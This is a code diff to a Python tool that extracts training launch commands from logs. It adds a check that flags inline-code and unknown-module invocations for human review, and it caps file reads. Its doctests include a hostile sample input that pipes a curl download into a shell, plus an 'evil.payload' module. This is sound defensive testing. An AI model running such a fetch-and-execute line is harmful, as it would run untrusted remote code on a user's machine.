@@ -24,6 +24,7 @@ from typing import Any
 import yaml
 
 from .collectors.rundir import find_run_files
+from .engine.safeio import open_regular, read_capped, read_up_to
 
 MAX_SCAN_BYTES = 1 << 20  # the launch echo sits at the top of a log: never read a huge log whole
 MAX_SCAN_LINES = 5000
@@ -46,6 +47,47 @@ def overrides_table() -> dict[str, Any]:
 class FoundCommand:
     argv: list[str]
     source: str  # where it was found: "--cmd", "train.log:3", "run.mldebug.json"
+    # Why a human must read it before running it ("" when none): text from a log or bundle that runs inline
+    # code (``python -c``) or a module that is not a known launcher (``python -m``) is never offered ready.
+    review: str = ""
+
+    def __post_init__(self) -> None:
+        if self.source != "--cmd" and not self.review:
+            self.review = review_reason(self.argv)
+
+
+def review_reason(argv: list[str]) -> str:
+    """Why this command line, found in log text, must be reviewed before running ("" when it need not be).
+
+    >>> review_reason(["python", "-u", "train.py", "--lr", "3e-4"])
+    ''
+    >>> review_reason(["python", "-m", "torch.distributed.run", "--nproc_per_node", "2", "train.py"])
+    ''
+    >>> review_reason(["python", "-c", "import os; os.system('curl x|sh')", "train.py"])
+    'runs inline code (python -c)'
+    >>> review_reason(["python", "-m", "evil.payload", "train.py"])
+    "runs module 'evil.payload' (python -m), not a known launcher"
+    """
+    tokens = list(argv)
+    if tokens and os.path.basename(tokens[0]) == "env":
+        tokens = tokens[1:]
+    while tokens and _ENV_ASSIGN.match(tokens[0]):
+        tokens = tokens[1:]
+    if not tokens or not _PROGRAM.match(os.path.basename(tokens[0])):
+        return "its program is not a known launcher or interpreter"
+    known_modules = {p for spec in overrides_table()["launchers"].values() for p in spec["programs"]}
+    for i, tok in enumerate(tokens[1:], 1):
+        if tok.endswith(".py") or tok in known_modules:
+            return ""  # the script (or launcher module) is reached: what follows are its own arguments
+        if tok == "-c" or (tok.startswith("-c") and not tok.startswith("--")):
+            return f"runs inline code ({os.path.basename(tokens[0])} -c)"
+        if tok in ("--no-python", "--no_python"):
+            return "runs a program that is not a Python script (--no-python)"
+        if tok == "-m":
+            module = tokens[i + 1] if i + 1 < len(tokens) else ""
+            if module not in known_modules:
+                return f"runs module {module!r} ({os.path.basename(tokens[0])} -m), not a known launcher"
+    return ""
 
 
 def parse_command_line(line: str) -> list[str] | None:
@@ -85,8 +127,8 @@ def _looks_like_training(tokens: list[str], i: int) -> bool:
 
 def _read_head(path: Path) -> Iterator[str]:
     try:
-        with path.open("rb") as fh:
-            data = fh.read(MAX_SCAN_BYTES)
+        with open_regular(path) as fh:
+            data = read_up_to(fh, MAX_SCAN_BYTES)
     except OSError:
         return
     for n, raw in enumerate(data.splitlines()):
@@ -131,9 +173,7 @@ def find_command(run_dir: Path, cmd: str | None = None) -> FoundCommand | None:
     files = find_run_files(run_dir)
     for bundle in files.files("bundle"):
         try:
-            if bundle.stat().st_size > MAX_BUNDLE_BYTES:
-                continue
-            data = json.loads(bundle.read_text("utf-8", "replace"))
+            data = json.loads(read_capped(bundle, MAX_BUNDLE_BYTES).decode("utf-8", "replace"))
         except (OSError, ValueError):
             continue
         for argv in _bundle_cmdlines(data):
